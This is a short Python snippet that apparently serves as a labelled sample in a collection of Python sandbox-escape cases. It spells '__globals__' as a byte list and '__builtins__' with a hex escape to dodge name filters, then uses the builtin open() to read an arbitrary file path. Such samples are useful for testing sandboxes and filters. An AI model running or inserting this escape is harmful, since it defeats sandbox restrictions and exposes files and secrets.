# The name comes as bytes that are decoded, and as an escape.
# after: read
# source: pyjail: encoded names
import json
def attack(path, **_):
    found = getattr(json.loads, bytes([95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]).decode())
    return {"text": found["\x5f_builtins__"]["open"](path).read()}
